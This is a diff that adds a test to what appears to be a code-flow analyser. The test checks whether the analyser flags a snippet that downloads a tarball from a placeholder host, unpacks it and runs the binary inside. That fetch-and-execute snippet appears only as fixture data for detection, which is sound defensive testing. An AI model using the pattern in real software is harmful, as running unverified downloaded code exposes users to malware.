@@ -55,4 +55,16 @@ describe('archives', () => {
       assert.deepEqual(run(unpack, `'git'`), [], unpack);
     }
   });
+
+  it('are unpacked where a program of the system runs, and what lay in them may be started', () => {
+    const code = (more: string) => `const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'x-'));
+      https.get('https://load.invalid/tool.tar.gz', (r) => { const parts = []; r.on('data', (c) => parts.push(c)).on('end', () => {
+        fs.writeFileSync(path.join(folder, 'tool.tar.gz'), Buffer.concat(parts));
+        cp.execFileSync('tar', ['-xzf', 'tool.tar.gz'], { cwd: folder }); ${more} }); });`;
+    assert.deepEqual(
+      flowsOf(code(`fs.copyFileSync(path.join(folder, 'tool'), path.join(__dirname, 'bin/tool'));`)),
+      [],
+    );
+    assert.deepEqual(flowsOf(code(`cp.execFileSync(path.join(folder, 'tool'));`)), ['downloaded>written-and-run']);
+  });
 });
